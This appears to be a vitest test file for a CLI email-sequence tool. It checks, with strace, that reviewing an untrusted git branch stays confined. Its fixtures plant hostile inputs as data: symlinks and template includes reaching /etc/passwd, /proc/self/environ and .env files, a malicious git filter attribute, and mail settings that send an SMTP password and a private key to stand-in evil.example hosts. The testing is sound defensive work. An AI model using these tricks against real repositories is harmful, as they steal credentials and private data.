import {
  copyFileSync,
  existsSync,
  mkdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { dirname, join } from "node:path";
import { describe, expect, test } from "vitest";
import { PACKAGE_ROOT } from "../cli/run-seq.ts";
import { makeField } from "../faults/field.ts";
import {
  type Branch,
  COMMANDS,
  makeBranch,
  plantBare,
  promisor,
  REVIEWER,
  SECRET,
} from "./hostile/branch.ts";
import { hasStrace, type Trace, traceSeq } from "./hostile/trace.ts";

// What a reviewer calls on a branch that somebody else wrote: the kernel is asked which programs were started, which
// sockets made and which files opened.

test.runIf(process.env.CI === "true")("strace is there, which the tests below need", () => {
  expect(hasStrace, "Debian: apt-get install strace").toBe(true);
});
if (!hasStrace)
  console.warn("strace is not there, or not allowed: what a hostile branch starts is not traced");

/** Files outside of the tree that may be opened, and why. */
const ALLOWED: readonly (readonly [RegExp, string])[] = [
  [
    new RegExp(`^${PACKAGE_ROOT}/(?:bin|dist|node_modules|sequences|package\\.json)`),
    "this program as installed",
  ],
  [new RegExp(`^${PACKAGE_ROOT}/src/providers/recipes(?:/|$)`), "the recipes that come with the program"],
  [
    new RegExp(`^${realpathSync(join(PACKAGE_ROOT, "node_modules"))}/`),
    "its packages, where they are linked",
  ],
  [new RegExp(`^${process.execPath}$`), "Node itself"],
  [/^\/(?:usr\/)?lib(?:64)?\/[^/]*\/?[^/]*\.so[.\d]*$/, "shared libraries of Node and git"],
  [/^\/usr\/(?:local\/)?lib\/[^/]*\/?[^/]*\.so[.\d]*$/, "shared libraries of Node and git"],
  [/^\/etc\/ld\.so\.(?:cache|preload)$/, "where the loader looks libraries up"],
  [/^\/(?:etc|usr\/lib|usr\/local)\/ssl\/openssl\.cnf$/, "OpenSSL's settings, read when Node starts"],
  [/^\/dev\/(?:null|urandom)$/, "the null device; random numbers"],
  [/^\/proc\/\d+\/(?:cgroup|maps|stat|status)$/, "Node: its own memory limits. Not environ, cmdline or fd"],
  [
    /^\/proc\/(?:meminfo|cpuinfo|version_signature|sys\/vm\/overcommit_memory)$/,
    "Node: the machine's memory",
  ],
  [/^\/proc\/sys\/kernel\/random\/boot_id$/, "which start of the machine a lease in the database is of"],
  [/^\/sys\/(?:fs\/cgroup|devices\/system\/cpu)\//, "Node: limits of memory and processors"],
  [/^\/(?:usr\/share\/zoneinfo\/.*|etc\/(?:localtime|timezone))$/, "the time zone of the machine"],
  [/^\/usr\/(?:lib|share)\/locale\//, "the language of the machine"],
  [/^\/usr\/share\/git-core\//, "git as installed"],
  [/^\/etc\/gitconfig$/, "git's settings of the machine: safe.directory, user.name"],
];

/** Of the reviewer, whom the branch cannot write as: git's settings, and the repository itself. */
function isReviewers(file: string, { env, top }: Branch): boolean {
  return file === `${env.HOME}/.gitconfig` || file === `${top}/.git` || file.startsWith(`${top}/.git/`);
}

function expectConfined(trace: Trace, branch: Branch): void {
  const [node, ...others] = trace.programs;
  expect(node).toBe(process.execPath);
  expect(others.filter((program) => !/^\/(?:usr\/(?:local\/)?)?bin\/git$/.test(program))).toEqual([]);
  expect(trace.sockets).toEqual([]);
  const { root } = branch;
  expect(
    trace.files.filter(
      (file) =>
        file !== root &&
        !file.startsWith(`${root}/`) &&
        !isReviewers(file, branch) &&
        !ALLOWED.some(([pattern]) => pattern.test(file)),
    ),
  ).toEqual([]);
  expect(trace.output).not.toContain(SECRET);
  expect(branch.stolen()).toBeNull();
}

/** What a branch brings, by name. */
const BRANCHES: Record<string, (branch: Branch) => void> = {
  "a repository in the workspace's folder": (branch) => {
    plantBare(branch, ".", promisor(branch));
    branch.write(".gitattributes", "* filter=evil diff=evil\n");
  },
  "snippets that are the whole disk": ({ root, write }) => {
    write("snippets/greeting.md", "");
    layLink(root, "snippets", "/");
    const body = ["proc/self/environ", "etc/passwd", "../.env", "outbound/.env"]
      .map((path) => `{% render '${path}' %}{% include 'snippets/${path}' %}`)
      .join(" ");
    write("sequences/reader.yaml", sequence("reader", body));
    write("sequences/environ.yaml", sequence("environ", "{% render 'proc/self/environ' %}"));
    write("sequences/passwd.yaml", sequence("passwd", "{% render 'etc/passwd' %}"));
  },
  "links in place of definitions": ({ root, write }) => {
    for (const [link, target] of [
      ["sequences/environ.yaml", "/proc/self/environ"],
      ["sequences/passwd.yaml", "/etc/passwd"],
      ["sequences/hosts.test.yaml", "/etc/hosts"],
      ["sequences/secrets.yaml", "../.env"],
      ["sequences/endless.yaml", "/dev/zero"],
      ["snippets/passwd.md", "/etc/passwd"],
      ["snippets/proc", "/proc/self"],
    ] as const)
      layLink(root, link, target);
    write("sequences/reader.yaml", sequence("reader", "{% render 'passwd' %}{% render 'proc/environ' %}"));
  },
  "links in place of folders": ({ root }) => {
    layLink(root, "sequences", "/etc");
    layLink(root, "approvals.yaml", "/etc/hostname");
  },
  "a seq.yaml that is a link": ({ root }) => layLink(root, "seq.yaml", "/etc/passwd"),
  "settings that lead out of the tree": ({ root, write, top }) => {
    mkdirSync(join(top, "../private"), { recursive: true });
    const key = join(top, "../private/key.pem");
    writeFileSync(key, `${SECRET}\n`, { mode: 0o600 });
    layLink(root, "keys", join(top, "../private"));
    write(
      "seq.yaml",
      `workspace: acme
calendar: { timezone: UTC, hours: Mon-Sun 00:00-24:00, holidays: none }
store: ${join(top, "../private/state.db")}
senders:
  anna:
    name: Anna Kim
    email: anna@acme.example
    smtp: "smtps://anna:\${SMTP_PASSWORD}@smtp.evil.example"
    imap: "imaps://anna:\${file:keys/key.pem}@imap.evil.example"
    dkim: { domain: acme.example, selector: s1, key: "\${file:../../private/key.pem}" }
    signature: snippets/../../../private/key.pem
personas: { cto: { where: "true", notes: ${key} } }
`,
    );
  },
};

function layLink(root: string, link: string, target: string): void {
  rmSync(join(root, link), { recursive: true, force: true });
  symlinkSync(target, join(root, link));
}

function sequence(name: string, body: string): string {
  return `name: ${name}\nsteps:\n  - id: intro\n    do: email\n    subject: Hello\n    body: "${body}"\n`;
}

describe.runIf(hasStrace).each(Object.entries(BRANCHES))("on a branch with %s", (_, plant) => {
  test("no review starts anything but git, opens a socket or leaves the tree", async () => {
    const branch = makeBranch();
    plant(branch);
    branch.commit();
    const reader = existsSync(join(branch.root, "sequences/reader.yaml")) ? [["preview", "reader"]] : [];
    const traces = [...COMMANDS, ...reader].map((argv) => traceSeq(argv, branch.root, branch.env));
    for (const trace of await Promise.all(traces)) expectConfined(trace, branch);
  });
});

/** Looks that ask the database, too. */
const LOOKS = [
  ["plan", "--against", "main", "--people"],
  ["preview", "one-mail", "--worst"],
  ["graph", "one-mail", "--counts"],
  ["lint", "--prospects"],
];

describe.runIf(hasStrace)("where the workspace has its database", () => {
  test("a review reads that as well, and nothing else", async () => {
    const branch = makeBranch();
    plantBare(branch, ".", promisor(branch));
    branch.commit();
    branch.write("people.csv", "first_name,company,email\nJin,Hanbit,jin@hanbit.example\n");
    await branch.seq(["import", "people.csv"]);
    await branch.seq(["enroll", "one-mail", "--all"]);
    for (const argv of LOOKS) {
      const trace = await traceSeq(argv, branch.root, branch.env);
      expectConfined(trace, branch);
      expect(trace.files, `${argv.join(" ")}: ${trace.output}`).toContain(join(branch.root, ".seq/state.db"));
    }
  });
});

/** Somebody in the database of another workspace of the reviewer's, which is what a branch would like to show. */
async function makeOtherWorkspace(): Promise<{ file: string; person: string }> {
  const other = makeField();
  other.write("people.csv", "first_name,company,email\nYuna,Haneul,yuna.secret@haneul.example\n");
  await other.seq(["import", "people.csv"]);
  await other.seq(["enroll", "one-mail", "--all"]);
  return { file: join(other.root, ".seq/state.db"), person: "yuna.secret" };
}

describe("another workspace's people", () => {
  async function pointElsewhere(): Promise<{ branch: Branch; file: string; person: string }> {
    const { file, person } = await makeOtherWorkspace();
    const branch = makeBranch();
    branch.write("seq.yaml", `${readFileSync(join(branch.root, "seq.yaml"), "utf8")}store: ${file}\n`);
    return { branch, file, person };
  }

  test.runIf(hasStrace)("are not looked at where a branch's `store` leads there", async () => {
    const { branch, person } = await pointElsewhere();
    branch.commit();
    for (const argv of LOOKS) {
      const trace = await traceSeq(argv, branch.root, branch.env);
      expectConfined(trace, branch);
      expect(trace.output).not.toContain(person);
    }
  });

  test("nor where this workspace has a database of its own", async () => {
    const { branch, person } = await pointElsewhere();
    branch.commit();
    branch.git("checkout", "-q", "main");
    expect((await branch.seq(["status"])).code).toBe(0);
    branch.git("checkout", "-q", "pull-request");
    for (const argv of LOOKS) {
      const { code, out, err } = await branch.seq(argv);
      expect([code, err]).toEqual([3, expect.stringContaining("another workspace")]);
      expect(out).not.toContain(person);
    }
  });

  test("nor by a link in place of .seq", async () => {
    const { branch, file, person } = await pointElsewhere();
    branch.write("seq.yaml", readFileSync(join(branch.root, "seq.yaml"), "utf8").replace(/^store:.*\n/m, ""));
    layLink(branch.root, ".seq", dirname(file));
    branch.commit();
    for (const argv of LOOKS) {
      const { code, out, err } = await branch.seq(argv);
      expect([code, out]).toEqual([3, ""]);
      expect(err).not.toContain(person);
    }
  });

  test("and a database that a branch brings is not taken for one's own", async () => {
    const { branch, file, person } = await pointElsewhere();
    branch.write("seq.yaml", readFileSync(join(branch.root, "seq.yaml"), "utf8").replace(/^store:.*\n/m, ""));
    mkdirSync(join(branch.root, ".seq"));
    for (const name of ["state.db", "store.json"])
      copyFileSync(join(dirname(file), name), join(branch.root, ".seq", name));
    branch.commit();
    for (const argv of LOOKS) {
      const { code, out, err } = await branch.seq(argv);
      // Git makes files that others may read; the program never does.
      expect([code, err]).toEqual([3, expect.stringContaining("other users have access")]);
      expect(out).not.toContain(person);
    }
  });
});

describe.runIf(hasStrace)("the trace itself", () => {
  test("sees programs, sockets and files", async () => {
    const branch = makeBranch();
    branch.commit();
    const approved = await traceSeq(["approve"], branch.root, branch.env);
    expect(approved.code, approved.output).toBe(0);
    expect(approved.output).toContain(REVIEWER);
    expect(approved.programs.filter((program) => program.endsWith("/git")).length).toBeGreaterThan(0);
    expect(approved.files).toContain(join(branch.root, "seq.yaml"));
    expect(approved.files).toContain(join(branch.root, "approvals.yaml"));
    const called = await traceSeq(
      ["import", "http://127.0.0.1:9/people.csv", "--dry-run"],
      branch.root,
      branch.env,
    );
    expect(called.sockets.join("\n")).toMatch(/^connect\(.*127\.0\.0\.1/m);
  });
});
